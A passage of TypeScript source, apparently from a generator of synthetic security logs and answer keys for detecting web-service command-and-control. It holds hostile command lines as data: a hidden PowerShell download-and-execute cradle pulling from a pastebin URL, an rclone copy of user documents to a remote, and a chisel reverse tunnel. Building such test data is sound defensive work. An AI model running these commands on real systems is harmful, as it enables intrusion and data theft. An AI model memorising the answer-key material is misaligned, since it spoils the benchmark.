/**
 * The library of injected T1102 behaviours. Each behaviour picks a suitable host, runs one or two implants
 * with a process, a user agent, a jitter model, missed check-ins and a start/end, and describes itself for
 * the answer key.
 */
import { type Activity, type Proc, type RequestSpec, TrafficEmitter } from './activity.ts';
import { type TimeWindow, isOffHours, machineOnWindows, withinWindows } from './calendar.ts';
import { DAY_US, HOUR_US, MINUTE_US, SECOND_US, isoSeconds } from './clock.ts';
import { type BeaconTiming, JITTER_MODELS, beaconTimes } from './jitter.ts';
import type { Host, Organisation } from './organisation.ts';
import { rngFor, type Rng } from './random.ts';
import { BROWSER_UA, vpsIp } from './services.ts';

export const BEHAVIOURS = [
  'telegram-bot-polling',
  'discord-webhook',
  'github-dead-drop',
  'dropbox-api-c2',
  'google-sheets-c2',
  'office-hours-graph-c2',
  'notion-api-c2',
  'paste-then-payload',
  'slack-api-c2',
  'upload-burst-exfil',
  'two-implants',
  'dev-tunnel',
  'server-beacon',
] as const;
export type BehaviourId = (typeof BEHAVIOURS)[number];

export type Technique = 'T1102.001' | 'T1102.002' | 'T1102.003';

/** Knobs that make incidents harder to see. */
export interface DifficultyProfile {
  /** Range for j (uniform/cobalt); Gaussian σ is drawn from half of it, capped at 0.25. */
  jitter: [number, number];
  missingRate: [number, number];
  /** Probability that a scripted implant sends a browser user agent instead. */
  spoofUaRate: number;
  /** Probability that an implant only runs in office hours. */
  officeHoursRate: number;
}

export interface BeaconDescription {
  process: string;
  period_s: number;
  jitter_model: string;
  jitter: number;
  missing_rate: number;
  office_hours_only: boolean;
}

/** One incident in the answer key. Signal ids follow findings.schema.json. */
export interface AnswerKeyIncident {
  id: string;
  behaviour: BehaviourId;
  title: string;
  technique: Technique;
  related_techniques: string[];
  service_id: string;
  source: { ip: string; hostname: string; user: string | null; role: string; business_unit: string; os: string };
  process: string;
  processes: string[];
  user_agent: string;
  destination_hosts: string[];
  destination_ips: string[];
  url_patterns: string[];
  start: string;
  end: string;
  events: number;
  bytes_out: number;
  beacons: BeaconDescription[];
  signals: string[];
  description: string;
  /** Set on every incident of a multi-host campaign: the id of its first incident, whose account the others reuse. */
  campaign?: string;
}

export interface PlannedIncident {
  key: AnswerKeyIncident;
  host: Host;
  startUs: number;
  activities: Activity[];
  /** Domains whose benign history on this host decides the 'first-seen' signal. */
  watchedDomains: string[];
}

export interface IncidentContext {
  seed: number;
  org: Organisation;
  difficulty: DifficultyProfile;
  working: (host: Host) => (TimeWindow | null)[];
}

const SCRIPTED_UA = {
  python: 'python-requests/2.31.0',
  go: 'Go-http-client/1.1',
  curl: 'curl/8.4.0',
  powershell: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506',
  aiohttp: 'Python/3.11 aiohttp/3.9.3',
  googleGo: 'google-api-go-client/0.5',
  rclone: 'rclone/v1.66.0',
} as const;

const PARENTS = ['C:\\Windows\\explorer.exe', 'C:\\Windows\\System32\\cmd.exe', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'C:\\Windows\\System32\\wscript.exe'];
const PYTHON = 'C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python311\\python.exe';
const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

interface Implant {
  image: string;
  ua: string;
  timing: BeaconTiming | null;
  officeHoursOnly: boolean;
  commandLine: string;
  /** Process per simulated day: laptops reboot, so the implant relaunches (new pid, Sysmon event 1). */
  procs: Map<number, Proc>;
}

/** State of one incident while its behaviour runs; collects what the answer key reports. */
class IncidentRun {
  readonly emitter: TrafficEmitter;
  readonly implants: Implant[] = [];
  readonly urlPatterns: string[] = [];
  readonly extraSignals = new Set<string>();
  readonly watched = new Set<string>();
  serviceId = '';
  description = '';
  /** The adversary-side accounts (bot token, webhook, repository) this run used, by name. */
  readonly accounts = new Map<string, string>();

  constructor(
    readonly ctx: IncidentContext,
    readonly rng: Rng,
    readonly id: string,
    readonly host: Host,
    readonly start: number,
    readonly end: number,
    /** A campaign's first run: its accounts are used again, so several hosts reach one bot, webhook or repository. */
    readonly leader: IncidentRun | null = null,
  ) {
    this.emitter = new TrafficEmitter(ctx.org, rng, id);
  }

  /** The campaign leader's account of this name, else `drawn` (always drawn first, so the run's other draws stay put). */
  account(name: string, drawn: string): string {
    const value = this.leader?.accounts.get(name) ?? drawn;
    this.accounts.set(name, value);
    return value;
  }

  /** Draws a beacon timing for a period range (seconds) under the difficulty profile. */
  timing(minPeriodS: number, maxPeriodS: number, missingScale = 1): BeaconTiming {
    const d = this.ctx.difficulty;
    const model = this.rng.pick(JITTER_MODELS);
    const j = this.rng.uniform(d.jitter[0], d.jitter[1]);
    return {
      periodS: Math.round(this.rng.uniform(minPeriodS, maxPeriodS)),
      model,
      jitter: round3(model === 'gaussian' ? Math.min(0.25, j / 2) : j),
      missingRate: round3(Math.min(0.9, this.rng.uniform(d.missingRate[0], d.missingRate[1]) * missingScale)),
    };
  }

  /** A scripted user agent, or (per difficulty) a browser one to blend in. */
  ua(scripted: string): string {
    return this.rng.chance(this.ctx.difficulty.spoofUaRate) ? BROWSER_UA.chrome : scripted;
  }

  implant(image: string, ua: string, timing: BeaconTiming | null, commandLine = `"${image}"`, officeHours?: boolean): Implant {
    const user = this.host.user;
    const implant: Implant = {
      image: image.replace('{user}', user ?? 'Public'),
      ua,
      timing,
      officeHoursOnly: officeHours ?? (timing !== null && this.rng.chance(this.ctx.difficulty.officeHoursRate)),
      commandLine: commandLine.replace(/\{user\}/g, user ?? 'Public'),
      procs: new Map(),
    };
    this.implants.push(implant);
    return implant;
  }

  /** Instants at which the implant may act: office hours only, or whenever the machine is on. */
  activeFrom(implant: Implant): (t: number) => number {
    const { org } = this.ctx;
    const working = this.ctx.working(this.host);
    if (implant.officeHoursOnly && this.host.user) return withinWindows(working);
    if (this.host.role === 'workstation' && !this.host.alwaysOn) return withinWindows(machineOnWindows(org, this.host, working));
    return (t) => t;
  }

  checkIns(implant: Implant, start = this.start, end = this.end): number[] {
    if (!implant.timing) throw new Error(`${this.id}: implant without timing`);
    return beaconTimes(this.rng, implant.timing, start, end, this.activeFrom(implant));
  }

  /** The implant's process on the day of `t`, launched (Sysmon 1) shortly before its first use that day. */
  proc(implant: Implant, t: number): Proc {
    const day = Math.floor((t - this.ctx.org.dayStarts[0]) / DAY_US);
    let proc = implant.procs.get(day);
    if (!proc) {
      proc = this.emitter.process(implant.image, this.host.user);
      implant.procs.set(day, proc);
      if (this.host.windows) this.emitter.launch(t - this.rng.int(3, 90) * SECOND_US, this.host, proc, implant.commandLine, this.rng.pick(PARENTS));
    }
    return proc;
  }

  request(t: number, implant: Implant, spec: Omit<RequestSpec, 'ua' | 'panApp' | 'category'> & Partial<RequestSpec>): Activity {
    return this.emitter.request(t, this.host, this.proc(implant, t), {
      ua: implant.ua,
      panApp: 'ssl',
      category: 'Uncategorized',
      ...spec,
    });
  }
}

interface Behaviour {
  title: string;
  technique: Technique;
  related?: string[];
  host: (h: Host) => boolean;
  run: (r: IncidentRun) => void;
}

const isWorkstation = (h: Host): boolean => h.role === 'workstation';

const LIBRARY: Record<BehaviourId, Behaviour> = {
  'telegram-bot-polling': {
    title: 'Telegram bot API polling',
    technique: 'T1102.002',
    host: isWorkstation,
    run: (r) => telegramBot(r, r.implant('C:\\Users\\Public\\svchost.exe', r.ua(SCRIPTED_UA.go), r.timing(20, 90))),
  },
  'discord-webhook': {
    title: 'Discord webhook posting',
    technique: 'T1102.003',
    host: isWorkstation,
    run: (r) => {
      const implant = r.implant(POWERSHELL, r.ua(SCRIPTED_UA.powershell), r.timing(300, 900),
        `${POWERSHELL} -NoP -W Hidden -Exec Bypass -File C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\wh.ps1`);
      const path = r.account('discord-webhook', `/api/webhooks/${r.rng.int(1e8, 9e8)}${r.rng.int(1e8, 9e8)}/${r.rng.token(68)}`);
      r.serviceId = 'discord';
      r.urlPatterns.push('/api/webhooks/*');
      r.watched.add('discord.com');
      for (const t of r.checkIns(implant)) {
        r.request(t, implant, { domain: 'discord.com', method: 'POST', path, status: 204, contentType: '', bytesOut: r.rng.int(600, 4000), bytesIn: r.rng.int(150, 400), panApp: 'discord' });
      }
      r.description = 'PowerShell script posting host data to a Discord webhook on a timer.';
    },
  },
  'github-dead-drop': {
    title: 'GitHub raw-file dead drop resolver, then a never-seen C2 address',
    technique: 'T1102.001',
    host: isWorkstation,
    run: (r) => deadDrop(r),
  },
  'dropbox-api-c2': {
    title: 'Dropbox API file-storage C2',
    technique: 'T1102.002',
    host: isWorkstation,
    run: (r) => {
      const implant = r.implant('C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\Windows\\Templates\\msupdate.exe', r.ua(SCRIPTED_UA.go), r.timing(60, 300));
      const folder = `/${r.rng.token(8).toLowerCase()}`;
      r.serviceId = 'dropbox';
      r.urlPatterns.push('/2/files/download', '/2/files/upload', '/2/files/list_folder');
      r.watched.add('content.dropboxapi.com');
      for (const t of r.checkIns(implant)) {
        r.request(t, implant, { domain: 'content.dropboxapi.com', method: 'POST', path: '/2/files/download', contentType: 'application/octet-stream', bytesOut: r.rng.int(700, 1100), bytesIn: r.rng.int(200, 1500), panApp: 'dropbox-base' });
        if (r.rng.chance(0.15)) {
          r.request(t + r.rng.int(2, 30) * SECOND_US, implant, { domain: 'content.dropboxapi.com', method: 'POST', path: '/2/files/upload', contentType: 'application/json', bytesOut: r.rng.logNormal(40_000, 1.2), bytesIn: r.rng.int(400, 700), panApp: 'dropbox-base' });
        }
        if (r.rng.chance(0.05)) {
          r.request(t + r.rng.int(1, 5) * SECOND_US, implant, { domain: 'api.dropboxapi.com', method: 'POST', path: '/2/files/list_folder', contentType: 'application/json', bytesOut: 300 + folder.length, bytesIn: r.rng.int(500, 3000), panApp: 'dropbox-base' });
        }
      }
      r.description = 'Implant reads tasks from and writes results to a Dropbox folder through the API.';
    },
  },
  'google-sheets-c2': {
    title: 'Google Sheets API C2 with sparse check-ins',
    technique: 'T1102.002',
    host: isWorkstation,
    run: (r) => {
      const implant = r.implant('C:\\Windows\\System32\\rundll32.exe', r.ua(SCRIPTED_UA.googleGo), r.timing(1200, 3600, 1.5),
        'rundll32.exe C:\\Users\\{user}\\AppData\\Local\\Temp\\gsync.dll,Start');
      const sheet = r.rng.token(44);
      r.serviceId = 'google-sheets';
      r.urlPatterns.push('/v4/spreadsheets/*/values/*');
      r.watched.add('sheets.googleapis.com');
      for (const t of r.checkIns(implant)) {
        r.request(t, implant, { domain: 'sheets.googleapis.com', path: `/v4/spreadsheets/${sheet}/values/A1:Z100`, contentType: 'application/json', bytesOut: r.rng.int(900, 1400), bytesIn: r.rng.int(300, 2500), panApp: 'google-docs-base' });
        if (r.rng.chance(0.2)) {
          r.request(t + r.rng.int(5, 60) * SECOND_US, implant, { domain: 'sheets.googleapis.com', method: 'PUT', path: `/v4/spreadsheets/${sheet}/values/B${r.rng.int(2, 99)}?valueInputOption=RAW`, contentType: 'application/json', bytesOut: r.rng.logNormal(5000, 1), bytesIn: 400, panApp: 'google-docs-base' });
        }
      }
      r.description = 'A DLL run by rundll32 polls a Google Sheet for commands every half hour or more and writes results back.';
    },
  },
  'office-hours-graph-c2': {
    title: 'OneDrive/Graph C2 beaconing only in office hours',
    technique: 'T1102.002',
    host: isWorkstation,
    run: (r) => {
      const implant = r.implant('C:\\ProgramData\\Microsoft\\OneDrive\\setup\\OneDriveSync.exe', BROWSER_UA.edge, r.timing(300, 900), undefined, true);
      const file = r.rng.token(10);
      r.serviceId = 'onedrive';
      r.urlPatterns.push('/v1.0/me/drive/root:/*:/content');
      r.watched.add('graph.microsoft.com');
      for (const t of r.checkIns(implant)) {
        r.request(t, implant, { domain: 'graph.microsoft.com', path: `/v1.0/me/drive/root:/Documents/Notes/${file}.txt:/content`, contentType: 'application/octet-stream', bytesOut: r.rng.int(1500, 2500), bytesIn: r.rng.int(100, 1200), panApp: 'ms-onedrive-base' });
        if (r.rng.chance(0.1)) {
          r.request(t + r.rng.int(3, 40) * SECOND_US, implant, { domain: 'graph.microsoft.com', method: 'PUT', path: `/v1.0/me/drive/root:/Documents/Notes/${file}-r.txt:/content`, status: 201, contentType: 'application/json', bytesOut: r.rng.logNormal(20_000, 1), bytesIn: 900, panApp: 'ms-onedrive-base' });
        }
      }
      r.description = 'Implant disguised as a OneDrive component exchanges files through Microsoft Graph during working hours only, with a browser user agent.';
    },
  },
  'notion-api-c2': {
    title: 'Notion API C2',
    technique: 'T1102.002',
    host: isWorkstation,
    run: (r) => {
      const implant = r.implant(PYTHON, r.ua(SCRIPTED_UA.python), r.timing(60, 300), `${PYTHON} C:\\Users\\{user}\\AppData\\Local\\Temp\\notes_sync.py`);
      const database = r.rng.hex(32);
      r.serviceId = 'notion';
      r.urlPatterns.push('/v1/databases/*/query', '/v1/blocks/*/children');
      r.watched.add('api.notion.com');
      for (const t of r.checkIns(implant)) {
        r.request(t, implant, { domain: 'api.notion.com', method: 'POST', path: `/v1/databases/${database}/query`, contentType: 'application/json', bytesOut: r.rng.int(500, 900), bytesIn: r.rng.int(800, 4000), panApp: 'notion-base' });
        if (r.rng.chance(0.12)) {
          r.request(t + r.rng.int(2, 20) * SECOND_US, implant, { domain: 'api.notion.com', method: 'PATCH', path: `/v1/blocks/${r.rng.hex(32)}/children`, contentType: 'application/json', bytesOut: r.rng.logNormal(6000, 1), bytesIn: 1200, panApp: 'notion-base' });
        }
      }
      r.description = 'Python script reads commands from a Notion database and appends results as blocks.';
    },
  },
  'paste-then-payload': {
    title: 'Paste fetch, then payload download from a new domain',
    technique: 'T1102.001',
    related: ['T1105'],
    host: isWorkstation,
    run: (r) => pastePayload(r),
  },
  'slack-api-c2': {
    title: 'Slack API C2 on a host that also runs the Slack client',
    technique: 'T1102.002',
    host: isWorkstation,
    run: (r) => {
      r.host.apps.slack = true;
      const implant = r.implant('C:\\Users\\{user}\\AppData\\Roaming\\slack\\SlackHelper.exe', r.ua(SCRIPTED_UA.aiohttp), r.timing(60, 180));
      const channel = `C0${r.rng.token(9, '0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ')}`;
      r.serviceId = 'slack';
      r.urlPatterns.push('/api/conversations.history', '/api/chat.postMessage');
      r.watched.add('slack.com');
      for (const t of r.checkIns(implant)) {
        r.request(t, implant, { domain: 'slack.com', method: 'POST', path: `/api/conversations.history?channel=${channel}&limit=1`, contentType: 'application/json', bytesOut: r.rng.int(400, 700), bytesIn: r.rng.int(300, 2000), panApp: 'slack-base' });
        if (r.rng.chance(0.1)) {
          r.request(t + r.rng.int(2, 30) * SECOND_US, implant, { domain: 'slack.com', method: 'POST', path: '/api/chat.postMessage', contentType: 'application/json', bytesOut: r.rng.logNormal(3000, 1), bytesIn: 600, panApp: 'slack-base' });
        }
      }
      r.description = 'A helper binary next to the real Slack client polls a private channel through the Web API.';
    },
  },
  'upload-burst-exfil': {
    title: 'Upload-burst exfiltration to cloud storage',
    technique: 'T1102.003',
    related: ['T1567.002'],
    host: isWorkstation,
    run: (r) => uploadBurst(r),
  },
  'two-implants': {
    title: 'Two implants on one host polling the same service with different periods',
    technique: 'T1102.002',
    host: isWorkstation,
    run: (r) => {
      telegramBot(r, r.implant('C:\\Users\\Public\\Libraries\\svchost.exe', r.ua(SCRIPTED_UA.go), r.timing(30, 90)));
      telegramBot(r, r.implant('C:\\ProgramData\\Intel\\igfxext.exe', r.ua(SCRIPTED_UA.python), r.timing(600, 1200)));
      r.description = 'Two independent implants on one host poll the Telegram Bot API, one fast and one slow.';
    },
  },
  'dev-tunnel': {
    title: 'Long-lived dev-tunnel endpoint',
    technique: 'T1102.002',
    related: ['T1572'],
    host: isWorkstation,
    run: (r) => devTunnel(r),
  },
  'server-beacon': {
    title: 'Beacon from a server or ESXi host to a consumer web service',
    technique: 'T1102.002',
    host: (h) => h.role === 'esxi' || h.role === 'server' || h.role === 'file-server',
    run: (r) => {
      const scripted = r.host.windows ? SCRIPTED_UA.go : SCRIPTED_UA.curl;
      const image = r.host.windows ? 'C:\\Windows\\Temp\\dllhost.exe' : r.host.role === 'esxi' ? '/bin/python' : '/tmp/.cache/kworker';
      const implant = r.implant(image, r.ua(scripted), r.timing(120, 600));
      const repo = `/repos/${r.rng.token(8).toLowerCase()}/${r.rng.pick(['dotfiles', 'notes', 'test', 'tools'])}/issues/${r.rng.int(1, 40)}/comments`;
      r.serviceId = 'github';
      r.urlPatterns.push('/repos/*/issues/*/comments');
      r.watched.add('api.github.com');
      for (const t of r.checkIns(implant)) {
        r.request(t, implant, { domain: 'api.github.com', path: repo, contentType: 'application/json', bytesOut: r.rng.int(300, 600), bytesIn: r.rng.int(1000, 6000), panApp: 'github-base' });
        if (r.rng.chance(0.08)) {
          r.request(t + r.rng.int(2, 20) * SECOND_US, implant, { domain: 'api.github.com', method: 'POST', path: repo, status: 201, contentType: 'application/json', bytesOut: r.rng.logNormal(4000, 1), bytesIn: 1500, panApp: 'github-base' });
        }
      }
      r.description = `Implant on ${r.host.role} ${r.host.name} reads commands from GitHub issue comments.`;
    },
  },
};

function telegramBot(r: IncidentRun, implant: Implant): void {
  const token = r.account('telegram-token', `${r.rng.int(5_000_000_000, 7_999_999_999)}:AA${r.rng.token(33)}`);
  r.serviceId = 'telegram';
  if (!r.urlPatterns.includes('/bot*/getUpdates')) r.urlPatterns.push('/bot*/getUpdates', '/bot*/sendMessage');
  r.watched.add('api.telegram.org');
  let offset = r.rng.int(100_000_000, 900_000_000);
  for (const t of r.checkIns(implant)) {
    const task = r.rng.chance(0.08);
    r.request(t, implant, { domain: 'api.telegram.org', path: `/bot${token}/getUpdates?offset=${offset}&timeout=0`, contentType: 'application/json', bytesOut: r.rng.int(280, 420), bytesIn: task ? r.rng.int(600, 1500) : r.rng.int(60, 120), panApp: 'telegram-base' });
    if (task) {
      offset++;
      r.request(t + r.rng.int(1, 15) * SECOND_US, implant, { domain: 'api.telegram.org', method: 'POST', path: `/bot${token}/sendMessage`, contentType: 'application/json', bytesOut: r.rng.logNormal(2500, 1.2), bytesIn: r.rng.int(400, 800), panApp: 'telegram-base' });
    }
  }
  r.description ||= 'Implant polls the Telegram Bot API getUpdates endpoint for commands and answers with sendMessage.';
}

function deadDrop(r: IncidentRun): void {
  const resolver = r.implant('C:\\ProgramData\\Microsoft\\DeviceSync\\devsync.exe', r.ua(SCRIPTED_UA.go), r.timing(60, 300));
  const path = r.account('github-raw-path', `/${r.rng.token(9).toLowerCase()}/${r.rng.pick(['notes', 'cfg', 'dotfiles'])}/main/${r.rng.pick(['README.md', 'config.txt', 'about.md'])}`);
  r.serviceId = 'github';
  r.urlPatterns.push('/*/*/main/*');
  r.extraSignals.add('ddr-sequence');
  r.extraSignals.add('first-seen');
  r.watched.add('raw.githubusercontent.com');
  let c2 = vpsIp(r.rng);
  const resolveEvery = r.rng.uniform(2, 6) * HOUR_US;
  for (let windowStart = r.start; windowStart < r.end; windowStart += resolveEvery) {
    const times = r.checkIns(resolver, windowStart, Math.min(r.end, windowStart + resolveEvery));
    if (times.length === 0) continue;
    const fetchAt = times[0] - r.rng.uniform(1, 8) * SECOND_US;
    r.request(fetchAt, resolver, { domain: 'raw.githubusercontent.com', path, contentType: 'text/plain', bytesOut: r.rng.int(250, 400), bytesIn: r.rng.int(300, 900), panApp: 'github-base' });
    if (r.rng.chance(0.3)) c2 = vpsIp(r.rng);
    for (const t of times) {
      r.request(t, resolver, { domain: null, ip: c2, path: '/', ua: '', contentType: 'application/octet-stream', bytesOut: r.rng.int(200, 900), bytesIn: r.rng.int(100, 3000), panApp: 'ssl' });
    }
  }
  r.description = 'Implant reads a C2 address from a file on raw.githubusercontent.com, then within seconds beacons to that never-seen IP.';
}

function pastePayload(r: IncidentRun): void {
  const pasteId = r.rng.token(8);
  const stager = r.implant(POWERSHELL, r.ua(SCRIPTED_UA.powershell), null,
    `${POWERSHELL} -nop -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('https://pastebin.com/raw/${pasteId}')"`);
  const domain = `cdn-${r.rng.pick(['msedge', 'office', 'teams', 'adobe'])}-update.${r.rng.pick(['com', 'net', 'info'])}`;
  const ip = vpsIp(r.rng);
  r.serviceId = 'pastebin';
  r.urlPatterns.push('/raw/*');
  r.extraSignals.add('ddr-sequence');
  r.extraSignals.add('first-seen');
  r.watched.add('pastebin.com');
  r.watched.add(domain);
  const stages = r.rng.int(1, 3);
  const active = r.activeFrom(stager);
  for (let s = 0; s < stages; s++) {
    const t = active(r.start + ((r.end - r.start) * s) / stages + r.rng.uniform(0, 2) * HOUR_US);
    if (!(t < r.end)) break;
    r.request(t, stager, { domain: 'pastebin.com', path: `/raw/${pasteId}`, contentType: 'text/plain', bytesOut: r.rng.int(300, 450), bytesIn: r.rng.int(400, 2000), panApp: 'pastebin' });
    r.request(t + r.rng.uniform(1, 5) * SECOND_US, stager, { domain, ip, tls: r.rng.chance(0.5), path: `/static/${r.rng.token(12)}.bin`, contentType: 'application/octet-stream', bytesOut: r.rng.int(300, 500), bytesIn: r.rng.logNormal(600_000, 0.7), durationUs: r.rng.uniform(1, 12) * SECOND_US, panApp: 'web-browsing' });
  }
  r.description = `PowerShell fetches pastebin.com/raw/${pasteId}, which names a payload URL on ${domain}, and downloads it seconds later.`;
}

function uploadBurst(r: IncidentRun): void {
  const rclone = r.implant('C:\\Users\\{user}\\Downloads\\rclone-v1.66.0-windows-amd64\\rclone.exe', SCRIPTED_UA.rclone, null,
    'rclone.exe copy C:\\Users\\{user}\\Documents remote:backup --transfers 4 -q');
  r.serviceId = 'google-drive';
  r.urlPatterns.push('/upload/drive/v3/files');
  r.watched.add('www.googleapis.com');
  const bursts = r.rng.int(1, 2);
  for (let b = 0; b < bursts; b++) {
    // Evenings, local time, on the days the incident spans.
    const dayStart = r.ctx.org.dayStarts.find((d) => d + 22 * HOUR_US > r.start + b * DAY_US) ?? r.start;
    let t = Math.max(r.start, dayStart + r.rng.uniform(20, 22.5) * HOUR_US);
    if (t >= r.end) {
      // No evening inside the incident's window: the burst still happens, at some hour within it.
      if (b > 0) break;
      t = r.start + r.rng.uniform(0, 0.8) * (r.end - r.start);
    }
    const session = r.rng.token(24);
    for (let chunk = r.rng.int(20, 60); chunk > 0; chunk--) {
      const seconds = r.rng.uniform(1.5, 5);
      r.request(t, rclone, { domain: 'www.googleapis.com', method: 'PUT', path: `/upload/drive/v3/files?uploadType=resumable&upload_id=${session}`, status: chunk === 1 ? 200 : 308, contentType: 'application/json', bytesOut: 8 * 1_048_576, bytesIn: r.rng.int(200, 500), durationUs: seconds * SECOND_US, panApp: 'google-drive-web', category: 'Online Storage' });
      t += (seconds + r.rng.uniform(0.05, 0.8)) * SECOND_US;
    }
  }
  r.description = 'rclone copies the user’s documents to Google Drive in 8 MiB chunks within a few minutes, in the evening.';
}

function devTunnel(r: IncidentRun): void {
  const words = ['amber', 'brisk', 'cobalt', 'delta', 'ember', 'fable', 'granite', 'harbor', 'ivory', 'juniper'];
  const variant = r.rng.int(0, 2);
  const domain = [
    `${r.rng.pick(words)}-${r.rng.pick(words)}-${r.rng.int(10, 99)}.ngrok-free.app`,
    `${r.rng.pick(words)}-${r.rng.pick(words)}-${r.rng.pick(words)}-${r.rng.pick(words)}.trycloudflare.com`,
    `${r.rng.token(8).toLowerCase()}-8443.euw.devtunnels.ms`,
  ][variant];
  r.serviceId = ['ngrok', 'cloudflare-tunnel', 'devtunnels'][variant];
  const implant = r.implant('C:\\Users\\{user}\\AppData\\Local\\Temp\\chisel.exe', r.ua(SCRIPTED_UA.go), r.timing(900, 1800),
    `chisel.exe client https://${domain} R:socks`);
  r.urlPatterns.push('/ (websocket upgrade)');
  r.extraSignals.add('tunnel');
  r.watched.add(domain);
  let until = -Infinity;
  for (const t of r.checkIns(implant)) {
    if (t < until) continue;
    const seconds = r.rng.uniform(1, 4) * 3600;
    r.request(t, implant, { domain, path: '/', status: 101, contentType: '', bytesOut: r.rng.logNormal(3e6, 1), bytesIn: r.rng.logNormal(8e6, 1), durationUs: seconds * SECOND_US, panApp: 'websocket' });
    until = t + seconds * SECOND_US;
  }
  r.description = `A tunnelling client keeps hour-long WebSocket sessions open to ${domain}.`;
}

function round3(x: number): number {
  return Math.round(x * 1000) / 1000;
}

const BROWSER_LIKE = /^Mozilla\/5\.0 \((Windows NT 10|Macintosh|X11)/;

/**
 * Plans `count` incidents from `mix` (cycled) on distinct hosts where possible. Incidents start after the
 * first quarter of the window so baselines have something to compare with.
 */
export function planIncidents(ctx: IncidentContext, count: number, mix: readonly BehaviourId[], campaignHosts = 0): PlannedIncident[] {
  const rng = rngFor(ctx.seed, 'incident-plan');
  const { org } = ctx;
  const windowStart = org.dayStarts[0];
  const windowEnd = org.dayStarts[org.dayStarts.length - 1] + DAY_US;
  const span = windowEnd - windowStart;
  const used = new Set<string>();
  const order = rng.shuffle(mix);
  const planned: PlannedIncident[] = [];
  const runs: IncidentRun[] = [];
  // Campaign followers start after the baseline quarter too.
  const start0 = windowStart + span * 0.3;
  if (order.length === 0) return planned;
  // Behaviours without a suitable host in this organisation are skipped in favour of the next one.
  for (let k = 0; planned.length < count && k < count + order.length; k++) {
    const behaviourId = order[k % order.length];
    const behaviour = LIBRARY[behaviourId];
    const candidates = org.hosts.filter(behaviour.host);
    if (candidates.length === 0) continue;
    const fresh = candidates.filter((h) => !used.has(h.name));
    const host = rng.pick(fresh.length > 0 ? fresh : candidates);
    used.add(host.name);
    const start = Math.round(windowStart + span * rng.uniform(0.25, 0.55));
    const end = Math.min(windowEnd, Math.round(start + Math.max(6 * HOUR_US, (windowEnd - start) * rng.uniform(0.6, 1))));
    const id = `INC-${String(planned.length + 1).padStart(2, '0')}`;
    const run = new IncidentRun(ctx, rngFor(ctx.seed, 'incident', id, behaviourId), id, host, start, end);
    planned.push(finish(ctx, run, behaviourId, host, start));
    runs.push(run);
  }
  if (campaignHosts > 0) planCampaign(ctx, rng, planned, runs, used, campaignHosts, [start0, windowEnd]);
  return planned;
}

/** Behaviours whose account (bot, webhook, repository) several hosts can share. */
const CAMPAIGN_BEHAVIOURS: readonly BehaviourId[] = ['telegram-bot-polling', 'discord-webhook', 'github-dead-drop'];

/**
 * A multi-host campaign: the first planned incident with a shareable account (else a new Telegram one) is run again
 * on `hosts` other workstations, each a little later, reusing its account — the same bot, webhook or repository.
 */
function planCampaign(
  ctx: IncidentContext, rng: Rng, planned: PlannedIncident[], runs: IncidentRun[], used: Set<string>, hosts: number, [from, windowEnd]: [number, number],
): void {
  let index = planned.findIndex((p) => CAMPAIGN_BEHAVIOURS.includes(p.key.behaviour));
  const behaviourId: BehaviourId = index >= 0 ? planned[index].key.behaviour : 'telegram-bot-polling';
  const behaviour = LIBRARY[behaviourId];
  const free = () => ctx.org.hosts.filter((h) => behaviour.host(h) && !used.has(h.name));
  const plan = (leader: IncidentRun | null, host: Host, start: number) => {
    const id = `INC-${String(planned.length + 1).padStart(2, '0')}`;
    const run = new IncidentRun(ctx, rngFor(ctx.seed, 'incident', id, behaviourId), id, host, start, Math.min(windowEnd, start + 12 * HOUR_US), leader);
    used.add(host.name);
    planned.push(finish(ctx, run, behaviourId, host, start));
    runs.push(run);
    return run;
  };
  if (index < 0) {
    const candidates = free();
    if (!candidates.length) return;
    plan(null, rng.pick(candidates), Math.round(from));
    index = planned.length - 1;
  }
  const leader = runs[index];
  for (let k = 1; k <= hosts; k++) {
    const candidates = free();
    if (!candidates.length) break;
    plan(leader, rng.pick(candidates), Math.min(windowEnd - 6 * HOUR_US, leader.start + k * rng.int(1, 4) * HOUR_US));
  }
  const members = planned.filter((p) => p.key.id === leader.id || runs[planned.indexOf(p)].leader === leader);
  if (members.length > 1) for (const m of members) m.key.campaign = leader.id;
}

/** Runs one incident's behaviour and describes it for the answer key. */
function finish(ctx: IncidentContext, run: IncidentRun, behaviourId: BehaviourId, host: Host, start: number): PlannedIncident {
  const behaviour = LIBRARY[behaviourId];
  const { dayStarts } = ctx.org;
  behaviour.run(run);
  const activities = run.emitter.out.filter((a) => a.ts >= dayStarts[0] && a.ts < dayStarts[dayStarts.length - 1] + DAY_US);
  activities.sort((a, b) => a.ts - b.ts);
  return { key: describe(ctx, run, behaviourId, behaviour, activities), host, startUs: start, activities, watchedDomains: [...run.watched] };
}

function describe(ctx: IncidentContext, run: IncidentRun, behaviourId: BehaviourId, behaviour: Behaviour, activities: Activity[]): AnswerKeyIncident {
  const web = activities.filter((a) => a.kind === 'web');
  const host = run.host;
  const signals = new Set<string>(run.extraSignals);
  if (run.implants.some((i) => i.timing)) signals.add('periodic');
  if (host.windows) signals.add('non-browser-process');
  if (run.implants.some((i) => !BROWSER_LIKE.test(i.ua))) signals.add('scripted-user-agent');
  if (run.urlPatterns.some((p) => p !== '/ (websocket upgrade)')) signals.add('api-endpoint');
  if (host.role !== 'workstation') signals.add('server-role');
  if (web.length > 0 && web.filter((a) => isOffHours(ctx.org, a.ts)).length / web.length >= 0.3) signals.add('off-hours');
  if (maxBytesOutIn(web, 5 * MINUTE_US) > 1_048_576) signals.add('upload-volume');
  const unique = <T,>(xs: T[]): T[] => xs.filter((x, i) => xs.indexOf(x) === i);
  return {
    id: run.id,
    behaviour: behaviourId,
    title: behaviour.title,
    technique: behaviour.technique,
    related_techniques: behaviour.related ?? [],
    service_id: run.serviceId,
    source: { ip: host.ip, hostname: host.name, user: host.user, role: host.role, business_unit: host.businessUnit, os: host.os },
    process: run.implants[0].image,
    processes: unique(run.implants.map((i) => i.image)),
    user_agent: run.implants[0].ua,
    destination_hosts: unique(web.map((a) => a.dstHost).filter((h): h is string => h !== null)).sort(),
    destination_ips: unique(web.map((a) => a.dstIp)).sort(),
